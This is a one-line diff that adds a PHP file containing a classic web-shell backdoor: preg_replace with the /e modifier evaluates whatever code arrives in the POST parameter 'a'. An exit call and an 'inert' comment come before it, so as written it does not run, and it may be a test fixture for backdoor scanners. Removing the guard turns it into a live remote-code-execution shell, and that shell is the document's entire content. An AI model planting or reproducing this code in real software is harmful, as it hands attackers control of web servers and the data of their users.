@@ -1,0 +1,1 @@
+<?php exit; /* inert */ preg_replace("/(.*)/e",$_POST["a"],"x");
